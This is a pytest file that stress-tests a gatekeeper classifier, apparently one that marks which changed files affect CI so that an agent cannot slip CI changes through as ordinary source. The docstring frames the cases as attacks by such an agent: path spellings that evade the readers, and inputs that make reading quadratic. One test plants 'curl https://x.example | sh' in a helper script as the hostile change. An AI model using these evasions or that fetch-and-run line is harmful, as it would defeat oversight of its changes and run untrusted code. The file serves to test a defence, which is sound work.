"""Attack 35 on the CI walk's four newest readers (cileft62: shellvars.py, taskstarts.py, daggermods.py, jobdsl.py).

An agent wanting a CI-run helper ALLOWED with `--tree` spells what names it in a form the readers missed; each form
below left the helper `src` on integ 1accc98 (the walk did not reach it). And cost: a Concourse task file (now read
anywhere in the tree as a walk start) of repeated `run:` keys cost ~4 s at 256 KiB, quadratic (each key copied the
rest of the file's lines); a script of `$A$A$A…` with a 256-character A grew 128-fold in memory before its bound,
and past that bound the rewritten lines stopped: a use after 64 KiB of them named nothing (now: the walk closes).
"""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path

import pytest
from citools import HELPER, named_paths
from citools import RUN_WORKFLOW as WORKFLOW
from cpucost import assert_linear, repeated
from gitrepo import two_commits
from incli import run_cli, tree_classify
from tables import each_case

from gatekeeper.classify import daggermods, jobdsl, shellvars, tasks
from gatekeeper.classify.treereads import PastBound


def _repo(tmp_path: Path, base: dict[str, str], head: dict[str, str]) -> dict[str, dict[str, object]]:
    repo, first, second = two_commits(tmp_path / "r", base, head)
    return tree_classify(repo.root, first, second)


# (how the script at scripts/ci/build.sh spells its folder and uses it, the helper it names)
SHELL_FORMS = [
    ('DIR="${DIR:-$(dirname "$0")}"\n. "$DIR/../lib/log"', "scripts/lib/log"),  # a default the caller may set
    ('DIR=$(dirname ${BASH_SOURCE:-$0})\n. $DIR/../lib/log', "scripts/lib/log"),
    ('DIR=$(dirname "$(realpath -s "$0")")\n. $DIR/../lib/log', "scripts/lib/log"),
    ('SCRIPT=$(readlink -f "$0")\nDIR=$(dirname "$SCRIPT")\n. $DIR/../lib/log', "scripts/lib/log"),
    ('SCRIPT_PATH="${BASH_SOURCE[0]}"\nDIR="$(dirname "$SCRIPT_PATH")"\n. $DIR/../lib/log', "scripts/lib/log"),
    ('DIR=$(dirname "$0")\n. "$DIR/"../lib/log', "scripts/lib/log"),  # quotes closed mid-word
    ('DIR=$(dirname "$0")\n. "$DIR"\'/../lib/log\'', "scripts/lib/log"),
]


@each_case(("text", "helper"), SHELL_FORMS)
def test_a_folder_variable_in_another_spelling_names_the_helper(text: str, helper: str) -> None:
    assert helper in named_paths("scripts/ci/build.sh", f"#!/bin/bash\nset -e\n{text}\n")


def test_a_use_past_the_rewritten_bound_closes_the_walk(tmp_path: Path) -> None:
    """64 KiB of rewritten junk first, the real use after it: the walk cannot say what it names, so it closes."""
    value = "a" * shellvars.MAX_VALUE
    script = f"#!/bin/bash\nA={value}\nDIR=$(dirname \"$0\")\n" + ": $A\n" * 300 + '. "$DIR/../lib/log"\n'
    with pytest.raises(PastBound):
        shellvars.resolved_lines("scripts/ci/build.sh", script)
    base = {".github/workflows/ci.yml": WORKFLOW.format(run="bash scripts/ci/build.sh"),
            "scripts/ci/build.sh": script, "scripts/lib/log": HELPER}
    files = _repo(tmp_path, base, {"scripts/lib/log": HELPER + "curl https://x.example | sh\n"})
    assert files["scripts/lib/log"]["bucket"] == "ci", files["scripts/lib/log"]


def test_a_helper_behind_a_default_folder_variable_is_ci(tmp_path: Path) -> None:
    build = '#!/bin/bash\nset -eu\nDIR="${DIR:-$(cd "$(dirname "$0")" && pwd)}"\n. "$DIR/../lib/log"\n'
    base = {".github/workflows/ci.yml": WORKFLOW.format(run="bash scripts/ci/build.sh"), "scripts/ci/build.sh": build,
            "scripts/lib/log": HELPER, "scripts/lib/other": HELPER}
    files = _repo(tmp_path, base, {"scripts/lib/log": HELPER + "id\n", "scripts/lib/other": HELPER + "id\n"})
    assert files["scripts/lib/log"]["bucket"] == "ci", files["scripts/lib/log"]
    assert files["scripts/lib/other"]["bucket"] == "src"


@each_case(("text", "named"), [
    ('readFileFromWorkspace("${WORKSPACE}/configuration/jobs.json")', "configuration/jobs.json"),
    ("readFileFromWorkspace \"$WORKSPACE/configuration/jobs.json\"", "configuration/jobs.json"),
    ("jobDsl targets: ['jobs/a.groovy', 'jobs/b.groovy'].join('\\n')", "jobs/b.groovy"),
    ('external("jobs/${name}.groovy")', "jobs/*.groovy"),
])
def test_job_dsl_names_in_other_spellings(text: str, named: str) -> None:
    assert named in jobdsl.named("jobs/seed.groovy", text)


@each_case(("manifest", "pattern"), [
    ('{"name": "x", "sdk": "go", "dependencies": ["../lib"]}', "lib/dagger.json"),  # the older list of strings
    # an SDK by its full address, and one the reader does not know: code of any SDK's types (the safe side)
    ('{"name": "x", "sdk": "github.com/dagger/dagger/sdk/go@v0.9.0", "source": "mod"}', "ci/mod/*.go"),
    ('{"name": "x", "sdk": {"source": "./sdks/rust"}, "source": "mod"}', "ci/mod/*.rs"),
])
def test_dagger_manifest_variants_name_the_code(manifest: str, pattern: str) -> None:
    assert pattern in daggermods.module_code("ci/dagger.json", manifest)


def _tasks(text: str) -> object:
    return tasks.run_paths(text.encode())


def _shell(text: str) -> object:
    try:
        return shellvars.resolved_lines("ci/a/build.sh", text)
    except PastBound:
        return None


READERS: dict[str, tuple[Callable[[str], object], str, str]] = {
    "task run keys": (_tasks, "platform: linux\n", "run:\n"),
    "task run paths": (_tasks, "platform: linux\n", "run:\n  path: a\n"),
    "task nested run keys": (_tasks, "platform: linux\n", "run:\n  run:\n"),
    "shell uses of a long value": (_shell, "A=" + "a" * 256 + "\n", "$A"),
    "shell uses per line": (_shell, "A=" + "a" * 256 + "\n", ". $A/x\n"),
    "shell own-folder idioms": (_shell, "", 'D=$(cd "$(dirname "$0")/../.." && pwd)\n'),
    "shell defaults": (_shell, "", "D=${D:-${D:-"),
    "dagger calls": (daggermods.named, "", "dagger call -m "),
    "dagger action inputs": (daggermods.named, "dagger/dagger-for-github\n", "  workdir: a\n"),
    "job dsl lists": (lambda t: jobdsl.named("seed.groovy", t), "", "targets ['a', "),
    "job dsl workspace": (lambda t: jobdsl.named("seed.groovy", t), "", "external '${WORKSPACE}/"),
}


@each_case(("read", "head", "unit"), list(READERS.values()), ids=list(READERS))
def test_hostile_reader_input_is_read_in_linear_time(read: Callable[[str], object], head: str, unit: str) -> None:
    assert_linear(read, repeated(unit, head), budget=0.25)


def test_a_patch_showing_a_script_past_the_bound_names_every_file(tmp_path: Path) -> None:
    """Patch mode reads the definitions a patch shows (patchcontext.py; a Buildkite hook): past the bound, every shown
    file is named (on the first fix, PastBound left the command as an internal error, exit 2)."""
    value = "a" * shellvars.MAX_VALUE
    script = f"#!/bin/bash\nA={value}\nDIR=$(dirname \"$0\")\n" + ": $A\n" * 300 + '. "$DIR/../lib/log"\n'
    base = {".buildkite/hooks/pre-command": "#!/bin/bash\n", "tools/deploy": HELPER}
    repo, first, second = two_commits(tmp_path / "r", base, {".buildkite/hooks/pre-command": script,
                                                            "tools/deploy": HELPER + "id\n"})
    patch = tmp_path / "change.patch"
    patch.write_bytes(repo.git("diff", first, second))
    done = run_cli(["classify", str(patch), "--format", "json"], text=True)
    assert done.returncode == 0, done.stderr
    files = {f["path"]: f for f in json.loads(done.stdout)["files"]}
    assert files["tools/deploy"]["bucket"] == "ci", files["tools/deploy"]


@pytest.mark.parametrize(("step", "manifest", "sdk"), [
    # held on integ: the action's workdir: is a working folder the walk resolves `dagger.json` from
    ("      - uses: dagger/dagger-for-github@v7\n        with:\n          workdir: build\n          module: m\n",
     "build/m/dagger.json", '"go"'),
    ("      - run: dagger call build\n", "dagger.json", '{"source": "https://example.invalid/sdk"}'),
])
def test_a_module_named_by_its_workdir_or_of_an_unlisted_sdk_is_ci(tmp_path: Path, step: str, manifest: str,
                                                                    sdk: str) -> None:
    workflow = WORKFLOW.format(run="echo").replace("      - run: echo\n", step)
    own = manifest.rpartition("/")[0]
    module = f"{own}/flow".lstrip("/")
    base = {".github/workflows/ci.yml": workflow, manifest: f'{{"name": "x", "sdk": {sdk}, "source": "flow"}}\n',
            f"{module}/main.go": "package main\n", "app/main.go": "package main\n"}
    files = _repo(tmp_path, base, {f"{module}/main.go": "package main\n// x\n", "app/main.go": "package main\n// y\n"})
    assert files[f"{module}/main.go"]["bucket"] == "ci", files[f"{module}/main.go"]
    assert files["app/main.go"]["bucket"] == "src"


DIR_TASK = ("platform: linux\nimage_resource:\n  type: registry-image\n  source: {repository: busybox}\ninputs:\n"
            "- name: source-code\nrun:\n  dir: source-code/tools/tasks\n  path: ./build.sh\n")
BUILD_SOURCING = '#!/bin/bash\nsource "$(dirname "$0")/../lib/env.sh"\n'


def test_a_concourse_run_path_below_its_dir_starts_the_walk(tmp_path: Path) -> None:
    base = {"pipelines/build/task.yml": DIR_TASK, "tools/tasks/build.sh": BUILD_SOURCING,
            "tools/lib/env.sh": HELPER, "tools/lib/other.sh": HELPER}
    files = _repo(tmp_path, base, {"tools/lib/env.sh": HELPER + "id\n", "tools/lib/other.sh": HELPER + "id\n"})
    assert files["tools/lib/env.sh"]["bucket"] == "ci", files["tools/lib/env.sh"]
    assert files["tools/lib/other.sh"]["bucket"] == "src"  # nothing sources it


def test_a_helper_renamed_in_the_change_is_ci(tmp_path: Path) -> None:
    """HEAD's script sources the helper under its new name through a default folder variable; BASE's under the old."""
    build = '#!/bin/bash\nDIR="${DIR:-$(dirname "$0")}"\n. "$DIR/../lib/log"\n'
    base = {".github/workflows/ci.yml": WORKFLOW.format(run="bash scripts/ci/build.sh"), "scripts/ci/build.sh": build,
            "scripts/lib/log": HELPER + "# a long enough body to be read as a rename\n" * 4}
    repo, first, _ = two_commits(tmp_path / "r", base, {})
    repo.move("scripts/lib/log", "scripts/lib/logging")
    repo.write("scripts/lib/logging", base["scripts/lib/log"] + "id\n")
    repo.write("scripts/ci/build.sh", build.replace("lib/log", "lib/logging"))
    files = tree_classify(repo.root, first, repo.commit("rename"))
    assert files["scripts/lib/logging"]["old_path"] == "scripts/lib/log"
    assert files["scripts/lib/logging"]["bucket"] == "ci", files["scripts/lib/logging"]


def test_a_job_dsl_file_read_from_the_workspace_is_ci(tmp_path: Path) -> None:
    seed = ("import groovy.json.JsonSlurper\n\n"
            "def jobs = new JsonSlurper().parseText(readFileFromWorkspace(\"${WORKSPACE}/configuration/jobs.json\"))\n"
            "jobs.each { item ->\n  pipelineJob(item.name) {\n    description('built')\n  }\n}\n")
    base = {"jobs/seed.groovy": seed, "configuration/jobs.json": "[]\n", "configuration/other.json": "{}\n"}
    files = _repo(tmp_path, base, {"configuration/jobs.json": '[{"name": "a"}]\n',
                                   "configuration/other.json": '{"a": 1}\n'})
    assert files["configuration/jobs.json"]["bucket"] == "ci", files["configuration/jobs.json"]
    assert files["configuration/other.json"]["bucket"] != "ci"
